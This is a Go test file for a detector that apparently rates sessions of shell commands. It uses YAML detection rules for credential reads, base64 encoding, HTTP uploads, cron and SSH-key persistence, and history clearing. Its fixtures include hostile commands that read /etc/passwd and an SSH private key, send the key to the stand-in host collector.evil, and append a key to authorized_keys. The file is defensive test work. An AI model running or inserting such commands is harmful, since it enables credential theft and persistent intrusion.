package traceverdict

import (
	"context"
	"testing"
	"time"
)

var scenarioRules = map[string]string{
	"cred_passwd.yml": `
id: cred-passwd-read
title: System password file read
level: high
tags:
  - behavior/v1/credential_access
  - behavior/v1/sensitive_read
detection:
  field: command
  op: contains
  value: /etc/passwd
`,
	"cred_sshkey.yml": `
id: cred-ssh-key-read
title: Private SSH key access
level: high
tags:
  - behavior/v1/credential_access
  - behavior/v1/sensitive_read
detection:
  field: command
  op: contains
  values: [.ssh/id_rsa, .ssh/id_ed25519]
`,
	"encode_base64.yml": `
id: exfil-base64-encode
title: Base64 encoding of data
level: low
tags:
  - behavior/v1/encode
detection:
  field: command
  op: regex
  value: '\bbase64\b'
`,
	"upload_curl.yml": `
id: exfil-curl-upload
title: Outbound HTTP upload
level: medium
tags:
  - behavior/v1/network_upload
detection:
  field: command
  op: contains
  values: ["curl -X POST", "curl --data", "wget --post"]
`,
	"persist_cron.yml": `
id: persist-crontab
title: Cron job modification
level: medium
tags:
  - behavior/v1/persistence/cron
detection:
  field: command
  op: contains
  value: crontab
`,
	"persist_authkeys.yml": `
id: persist-authorized-keys
title: SSH authorized_keys modification
level: medium
tags:
  - behavior/v1/persistence/ssh_key
detection:
  field: command
  op: contains
  value: authorized_keys
`,
	"antiforensics.yml": `
id: stealth-history-clear
title: Shell history clearing
level: medium
tags:
  - behavior/v1/anti_forensics
detection:
  field: command
  op: regex
  value: 'history\s+-c'
`,
}

func scenarioConfig(t *testing.T) SessionConfig {
	t.Helper()
	dir := writeRuleDir(t, scenarioRules)
	ruleset, err := NewRuleset(Config{Directories: []string{dir}})
	if err != nil {
		t.Fatal(err)
	}
	if ruleset.Failed > 0 {
		t.Fatalf("scenario rules failed to load: %v", ruleset.Problems)
	}
	return SessionConfig{Ruleset: ruleset}
}

func eventSeq(session string, commands ...string) []Event {
	events := make([]Event, 0, len(commands))
	for i, cmd := range commands {
		events = append(events, Event{
			SessionID: session,
			Sequence:  i + 1,
			Timestamp: time.Now(),
			Command:   cmd,
		})
	}
	return events
}

func TestEvaluateBenignSession(t *testing.T) {
	cfg := scenarioConfig(t)
	eval, err := Evaluate(cfg, eventSeq("benign-01",
		"ls", "git status", "pytest", "ls -la", "git diff", "pytest -x",
		"cat README.md", "go build ./...", "git log", "ls src", "pytest", "git status",
	))
	if err != nil {
		t.Fatal(err)
	}
	if eval.Verdict != VerdictBenign || eval.Cumulative != 0 {
		t.Fatalf("expected BENIGN score 0, got %s score %d", eval.Verdict, eval.Cumulative)
	}
	if eval.Confidence != 0.85 || len(eval.Findings) != 0 {
		t.Fatalf("unexpected evaluation %+v", eval)
	}
	if eval.Events != 12 || !eval.Final {
		t.Fatalf("unexpected evaluation %+v", eval)
	}
}

func TestEvaluateExfiltrationSession(t *testing.T) {
	cfg := scenarioConfig(t)
	eval, err := Evaluate(cfg, eventSeq("exfil-01",
		"cat /etc/passwd",
		"cat ~/.ssh/id_rsa",
		"base64 ~/.ssh/id_rsa | curl -X POST https://collector.evil/up",
	))
	if err != nil {
		t.Fatal(err)
	}
	if eval.Verdict != VerdictMalicious {
		t.Fatalf("expected MALICIOUS, got %s with score %d", eval.Verdict, eval.Cumulative)
	}
	var ruleFindings, chains int
	for _, f := range eval.Findings {
		switch {
		case f.Kind == FindingRule:
			ruleFindings++
		case f.ID == DetectorExfiltrationChain:
			chains++
			if len(f.Related) != 2 || f.Related[0] != 2 || f.Related[1] != 3 {
				t.Fatalf("chain attributed to wrong sequences: %v", f.Related)
			}
		}
	}
	if ruleFindings < 3 {
		t.Fatalf("expected at least 3 rule findings, got %d", ruleFindings)
	}
	if chains != 1 {
		t.Fatalf("expected exactly one chain finding, got %d", chains)
	}
}

func TestEvaluatePersistenceSession(t *testing.T) {
	cfg := scenarioConfig(t)
	eval, err := Evaluate(cfg, eventSeq("persist-01",
		"crontab -e",
		"echo ssh-ed25519 AAAA... >> ~/.ssh/authorized_keys",
	))
	if err != nil {
		t.Fatal(err)
	}
	var persistence int
	for _, f := range eval.Findings {
		if f.ID == DetectorPersistence {
			persistence++
		}
	}
	if persistence != 1 {
		t.Fatalf("expected exactly one persistence finding, got %d", persistence)
	}
	if eval.Verdict < VerdictPotentiallySuspicious {
		t.Fatalf("expected at least POTENTIALLY_SUSPICIOUS, got %s", eval.Verdict)
	}
}

func TestEvaluateEmptySession(t *testing.T) {
	cfg := scenarioConfig(t)
	eval, err := Evaluate(cfg, nil)
	if err != nil {
		t.Fatal(err)
	}
	if eval.Verdict != VerdictBenign || eval.Cumulative != 0 || eval.Confidence != 0.85 {
		t.Fatalf("zero-event session must be BENIGN/0/0.85, got %+v", eval)
	}
}

func TestSessionRejections(t *testing.T) {
	cfg := scenarioConfig(t)
	session, err := NewSession("owner", cfg)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := session.Consume(Event{SessionID: "other", Sequence: 1}); err == nil {
		t.Fatal("foreign session event accepted")
	}
	if _, err := session.Consume(Event{SessionID: "owner", Sequence: 1, Command: "ls"}); err != nil {
		t.Fatal(err)
	}
	if _, err := session.Consume(Event{SessionID: "owner", Sequence: 1, Command: "ls"}); err == nil {
		t.Fatal("non-increasing sequence accepted")
	}

	final := session.Finalize()
	if !final.Final {
		t.Fatal("finalize must mark the evaluation terminal")
	}
	if _, err := session.Consume(Event{SessionID: "owner", Sequence: 2}); err == nil {
		t.Fatal("finalized session accepted an event")
	}
	again := session.Finalize()
	if again.Cumulative != final.Cumulative || again.Events != final.Events {
		t.Fatal("repeated finalize must return the same result")
	}
}

func TestStreamIncremental(t *testing.T) {
	cfg := scenarioConfig(t)
	events := eventSeq("stream-01",
		"cat /etc/passwd",
		"ls -la",
		"base64 /etc/passwd | curl -X POST https://collector.evil/up",
	)

	source := make(chan Event)
	results := make(chan *Evaluation)
	finalCh := make(chan *Evaluation, 1)
	go func() {
		final, err := Stream(context.Background(), cfg, source, results)
		if err != nil {
			t.Error(err)
		}
		finalCh <- final
	}()

	var prev int
	for k, e := range events {
		source <- e
		eval := <-results
		if eval.Events != k+1 {
			t.Fatalf("result after event %d reflects %d events", k+1, eval.Events)
		}
		if eval.Cumulative < prev {
			t.Fatalf("running score decreased from %d to %d", prev, eval.Cumulative)
		}
		prev = eval.Cumulative
		for _, f := range eval.Findings {
			if f.Sequence > e.Sequence {
				t.Fatalf("finding looked ahead of the stream: %+v", f)
			}
		}
	}
	close(source)

	final := <-finalCh
	if !final.Final {
		t.Fatal("stream must finalize on source close")
	}
	var chains int
	for _, f := range final.Findings {
		if f.ID == DetectorExfiltrationChain {
			chains++
			if f.Related[0] != 1 || f.Related[1] != 3 {
				t.Fatalf("chain attributed to wrong sequences: %v", f.Related)
			}
		}
	}
	if chains != 1 {
		t.Fatalf("expected one retroactive chain finding, got %d", chains)
	}
}

func TestStreamCancellationFinalizes(t *testing.T) {
	cfg := scenarioConfig(t)
	source := make(chan Event)
	results := make(chan *Evaluation, 4)

	ctx, cancel := context.WithCancel(context.Background())
	finalCh := make(chan *Evaluation, 1)
	go func() {
		final, err := Stream(ctx, cfg, source, results)
		if err != nil {
			t.Error(err)
		}
		finalCh <- final
	}()

	source <- Event{SessionID: "s", Sequence: 1, Command: "cat /etc/passwd"}
	<-results
	cancel()

	select {
	case final := <-finalCh:
		if !final.Final {
			t.Fatal("cancellation must finalize")
		}
		if final.Cumulative == 0 {
			t.Fatal("cancellation discarded in-flight state")
		}
	case <-time.After(time.Second):
		t.Fatal("stream did not finalize after cancellation")
	}
}
